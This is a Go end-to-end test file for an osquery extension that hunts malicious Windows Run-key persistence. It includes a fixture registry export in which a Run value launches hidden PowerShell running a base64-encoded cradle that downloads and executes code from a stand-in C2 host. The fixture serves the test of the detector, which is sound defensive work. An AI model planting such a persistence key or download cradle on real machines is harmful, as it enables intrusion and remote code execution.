package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/apache/thrift/lib/go/thrift"
	"github.com/osquery/osquery-go/gen/osquery"
	"github.com/osquery/osquery-go/transport"

	"github.com/runkeyhunt/runkeyhunt/tables/runkeypayloads"
	"github.com/runkeyhunt/runkeyhunt/tables/schema"
	"github.com/runkeyhunt/runkeyhunt/tables/sysmonchain"
)

// Shared by the end-to-end tests over a Unix socket (extension_e2e_test.go)
// and over a Windows named pipe (extension_windows_test.go): osquery-go's
// transport package opens either, with the same signatures, so the fake
// osqueryd and the checks are the same on both.

// fakeOsqueryd plays osqueryd's extension manager: it accepts the
// extension's registration and answers its pings, over osquery's Thrift
// protocol on a real Unix socket or named pipe.
type fakeOsqueryd struct {
	mu         sync.Mutex
	registered chan osquery.ExtensionRegistry
	info       *osquery.InternalExtensionInfo
	stderr     *lockedBuffer // the extension's log
}

// e2eUUID is the route UUID the fake manager hands out: the extension
// listens on <socket>.<uuid>.
const e2eUUID = 7

func (f *fakeOsqueryd) Ping(ctx context.Context) (*osquery.ExtensionStatus, error) {
	return &osquery.ExtensionStatus{Code: 0, Message: "OK"}, nil
}
func (f *fakeOsqueryd) Call(ctx context.Context, registry, item string, req osquery.ExtensionPluginRequest) (*osquery.ExtensionResponse, error) {
	return &osquery.ExtensionResponse{Status: &osquery.ExtensionStatus{Code: 1, Message: "not a plugin host"}}, nil
}
func (f *fakeOsqueryd) Shutdown(ctx context.Context) error { return nil }
func (f *fakeOsqueryd) Extensions(ctx context.Context) (osquery.InternalExtensionList, error) {
	return osquery.InternalExtensionList{}, nil
}
func (f *fakeOsqueryd) Options(ctx context.Context) (osquery.InternalOptionList, error) {
	return osquery.InternalOptionList{}, nil
}
func (f *fakeOsqueryd) RegisterExtension(ctx context.Context, info *osquery.InternalExtensionInfo, reg osquery.ExtensionRegistry) (*osquery.ExtensionStatus, error) {
	f.mu.Lock()
	f.info = info
	f.mu.Unlock()
	f.registered <- reg
	return &osquery.ExtensionStatus{Code: 0, Message: "OK", UUID: e2eUUID}, nil
}
func (f *fakeOsqueryd) DeregisterExtension(ctx context.Context, uuid osquery.ExtensionRouteUUID) (*osquery.ExtensionStatus, error) {
	return &osquery.ExtensionStatus{Code: 0}, nil
}
func (f *fakeOsqueryd) Query(ctx context.Context, sql string) (*osquery.ExtensionResponse, error) {
	return &osquery.ExtensionResponse{Status: &osquery.ExtensionStatus{Code: 1, Message: "no SQL here"}}, nil
}
func (f *fakeOsqueryd) GetQueryColumns(ctx context.Context, sql string) (*osquery.ExtensionResponse, error) {
	return f.Query(ctx, sql)
}

// startExtensionAt plays osqueryd on sock (a Unix socket path or a named
// pipe such as \\.\pipe\osquery.em), runs the binary the way osqueryd does,
// waits for it to register, and returns the manager, a client connected to
// the extension's own socket (<sock>.<uuid>), the command, and a stop func
// that takes the manager away and waits for the extension to exit.
func startExtensionAt(t *testing.T, sock string, extraArgs ...string) (*fakeOsqueryd, *osquery.ExtensionClient, *exec.Cmd, func()) {
	t.Helper()
	manager := &fakeOsqueryd{registered: make(chan osquery.ExtensionRegistry, 1)}
	// No client timeout: osqueryd keeps the extension's connection open
	// between pings. (The Unix transport ignores it anyway; the pipe
	// transport would drop a connection idle that long, failing a ping.)
	serverSock, err := transport.OpenServer(sock, 0)
	if err != nil {
		t.Fatalf("open manager server %s: %v", sock, err)
	}
	// Listen here rather than inside Serve, so a failure is reported as
	// such instead of as an extension that never registers.
	if err := serverSock.Listen(); err != nil {
		t.Fatalf("listen on %s: %v", sock, err)
	}
	server := thrift.NewTSimpleServer2(osquery.NewExtensionManagerProcessor(manager), serverSock)
	served := make(chan error, 1)
	go func() { served <- server.Serve() }()

	var stderr lockedBuffer
	// Offline sources are refused unless allowed: the tests' inputs live
	// under the temp directory.
	args := []string{"--socket", sock, "--timeout", "3", "--interval", "1", "--verbose"}
	if !slices.ContainsFunc(extraArgs, func(a string) bool { return strings.HasPrefix(a, "--allow_source") }) {
		args = append(args, "--allow_source", os.TempDir())
	}
	cmd := exec.Command(binary, append(args, extraArgs...)...)
	cmd.Stderr = &stderr
	manager.stderr = &stderr
	if err := cmd.Start(); err != nil {
		server.Stop()
		t.Fatal(err)
	}
	// exited is closed once the extension has exited and its stderr is
	// all in; waitErr is its exit status.
	exited := make(chan struct{})
	var waitErr error
	go func() { waitErr = cmd.Wait(); close(exited) }()
	stopManager := func() { server.Stop() }
	t.Cleanup(func() {
		cmd.Process.Kill()
		<-exited
		stopManager()
		if t.Failed() {
			t.Logf("extension stderr:\n%s", stderr.String())
		}
	})

	select {
	case <-manager.registered:
	case err := <-served:
		t.Fatalf("manager server on %s stopped before registration: %v", sock, err)
	case <-exited:
		t.Fatalf("extension exited before registering: %v\n%s", waitErr, stderr.String())
	case <-time.After(20 * time.Second):
		t.Fatalf("extension did not register\n%s", stderr.String())
	}
	trans := dialExtension(t, fmt.Sprintf("%s.%d", sock, e2eUUID), &stderr)
	t.Cleanup(func() { trans.Close() })
	client := osquery.NewExtensionClientFactory(trans, thrift.NewTBinaryProtocolFactoryDefault())
	return manager, client, cmd, func() {
		stopManager()
		select {
		case <-exited:
			if waitErr != nil {
				t.Errorf("extension exited with %v after osqueryd went away\n%s", waitErr, stderr.String())
			}
		case <-time.After(15 * time.Second):
			t.Errorf("extension did not exit after osqueryd went away\n%s", stderr.String())
		}
	}
}

// dialExtension connects to the extension's own socket. The extension
// starts listening only after RegisterExtension has returned, so the first
// tries can find nothing there: the Unix transport waits for the socket
// file, but a pipe dial fails at once when the pipe does not exist yet.
func dialExtension(t *testing.T, path string, stderr *lockedBuffer) *thrift.TSocket {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for {
		trans, err := transport.Open(path, 2*time.Second)
		if err == nil {
			return trans
		}
		if time.Now().After(deadline) {
			t.Fatalf("connect to extension socket %s: %v\n%s", path, err, stderr.String())
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// lockedBuffer collects the extension's stderr, written by exec's copying
// goroutine while the test may read it.
type lockedBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *lockedBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *lockedBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

const e2eReg = "Windows Registry Editor Version 5.00\r\n\r\n" +
	"[HKEY_USERS\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n" +
	"\"Updater\"=\"\\\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\\\" -c \\\"$x=$((gp HKCU:Software\\\\Microsoft\\\\Windows\\\\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x\\\"\"\r\n" +
	"\"OneDrive\"=\"\\\"C:\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Microsoft\\\\OneDrive\\\\OneDrive.exe\\\" /background\"\r\n\r\n" +
	"[HKEY_USERS\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion]\r\n" +
	// base64(UTF-16LE("IEX (New-Object Net.WebClient).DownloadString('http://c2.example.invalid/admin/get.php')"))
	"\"Debug\"=\"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYwAyAC4AZQB4AGEAbQBwAGwAZQAuAGkAbgB2AGEAbABpAGQALwBhAGQAbQBpAG4ALwBnAGUAdAAuAHAAaABwACcAKQA=\"\r\n"

func writeE2EReg(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "host.reg")
	if err := os.WriteFile(path, []byte(e2eReg), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// checkColumnsRoute checks the columns route as osqueryd reads it: one
// {id: column, name, type, op} per column, in order, where op is osquery's
// ColumnOptions bitmask (osquery/core/sql/column.h: INDEX 1, REQUIRED 2,
// ADDITIONAL 4, OPTIMIZED 8, HIDDEN 16). wantOp is written out here rather
// than derived, so a declaration that loses an option fails. osquery's
// route has no field for descriptions: they reach osquery's spec shape
// through `runkeyhunt schema --format json` (TestSchemaJSONIsOsquerySpec).
func checkColumnsRoute(t *testing.T, route osquery.ExtensionPluginResponse, declared []schema.Column, wantOp map[string]string) {
	t.Helper()
	var got, want []string
	for _, r := range route {
		if r["id"] == "column" {
			got = append(got, r["name"]+" "+r["type"]+" op="+r["op"])
		}
	}
	for _, c := range declared {
		op := wantOp[c.Name]
		if op == "" {
			op = "0"
		}
		want = append(want, c.Name+" "+string(c.Type)+" op="+op)
	}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("columns route:\n got %v\nwant %v", got, want)
	}
}

// checkServesRunKeyPayloads checks what osqueryd sees of the extension:
// its registered name, the run_key_payloads columns route, generate with a
// source constraint, and that a bad source (badSource, a path that does not
// exist) is an error for that query and not a crash.
func checkServesRunKeyPayloads(t *testing.T, manager *fakeOsqueryd, client *osquery.ExtensionClient, badSource string) {
	t.Helper()
	manager.mu.Lock()
	if manager.info.Name != "runkeyhunt" {
		t.Errorf("registered as %q, want runkeyhunt", manager.info.Name)
	}
	registeredVersion := manager.info.Version
	manager.mu.Unlock()
	// osquery_extensions shows the version --version prints: one version.
	out, _, code := runBinary(t, "--version")
	if f := strings.Fields(out); code != 0 || len(f) < 2 || f[1] != registeredVersion {
		t.Errorf("registered version %q, --version says %q", registeredVersion, out)
	}

	ctx := context.Background()
	resp, err := client.Call(ctx, "table", runkeypayloads.Name, osquery.ExtensionPluginRequest{"action": "columns"})
	if err != nil || resp.Status.Code != 0 {
		t.Fatalf("columns: %v %+v", err, resp)
	}
	checkColumnsRoute(t, resp.Response, runkeypayloads.Schema.Columns, map[string]string{"path": "1", "source": "16"})
	// SPEC §4's column list, in order, with the image_* columns of §6.
	spec := "key path name type data mtime location scope sid username enabled image arguments payload_kind payload_ref payload_path payload_exists payload_size payload_sha256 payload_entropy payload_encoding payload_preview image_exists image_size image_sha256 image_signed image_signer image_original_name image_company indicators score verdict source source_file"
	var names []string
	for _, c := range runkeypayloads.Schema.Columns {
		names = append(names, c.Name)
	}
	if strings.Join(names, " ") != spec {
		t.Errorf("schema differs from SPEC §4:\n got %s\nwant %s", strings.Join(names, " "), spec)
	}

	resp, err = client.Call(ctx, "table", sysmonchain.Name, osquery.ExtensionPluginRequest{"action": "columns"})
	if err != nil || resp.Status.Code != 0 {
		t.Fatalf("columns of %s: %v %+v", sysmonchain.Name, err, resp)
	}
	checkColumnsRoute(t, resp.Response, sysmonchain.Schema.Columns, map[string]string{"path": "1", "window": "16", "source": "16"})

	src := writeE2EReg(t)
	qc, _ := json.Marshal(map[string]any{"constraints": []any{map[string]any{
		"name": "source", "affinity": "TEXT",
		"list": []any{map[string]any{"op": 2, "expr": src}},
	}}})
	resp, err = client.Call(ctx, "table", runkeypayloads.Name, osquery.ExtensionPluginRequest{"action": "generate", "context": string(qc)})
	if err != nil || resp.Status.Code != 0 {
		t.Fatalf("generate: %v %+v", err, resp)
	}
	var updater map[string]string
	for _, row := range resp.Response {
		if row["source"] != src {
			t.Errorf("row source %q, want the constraint %q echoed", row["source"], src)
		}
		if row["name"] == "Updater" {
			updater = row
		}
	}
	if len(resp.Response) != 2 || updater == nil {
		t.Fatalf("want 2 rows with Updater, got %v", resp.Response)
	}
	want := map[string]string{
		"path":           `HKEY_USERS\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run\Updater`,
		"payload_kind":   "registry",
		"payload_path":   `HKEY_USERS\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Debug`,
		"payload_exists": "1",
		"verdict":        "malicious",
		"source_file":    src,
	}
	for k, v := range want {
		if updater[k] != v {
			t.Errorf("%s = %q, want %q", k, updater[k], v)
		}
	}
	if !strings.Contains(updater["payload_preview"], "DownloadString") {
		t.Errorf("payload not decoded: %q", updater["payload_preview"])
	}

	// A bad source is an error for that query, not a crash.
	qc, _ = json.Marshal(map[string]any{"constraints": []any{map[string]any{
		"name": "source", "affinity": "TEXT",
		"list": []any{map[string]any{"op": 2, "expr": badSource}},
	}}})
	resp, err = client.Call(ctx, "table", runkeypayloads.Name, osquery.ExtensionPluginRequest{"action": "generate", "context": string(qc)})
	if err != nil || resp.Status.Code == 0 || !strings.Contains(resp.Status.Message, badSource) {
		t.Errorf("bad source: want an error naming it, got %v %+v", err, resp.Status)
	}
	if st, err := client.Ping(ctx); err != nil || st.Code != 0 {
		t.Errorf("extension not alive after a bad query: %v %v", st, err)
	}
}
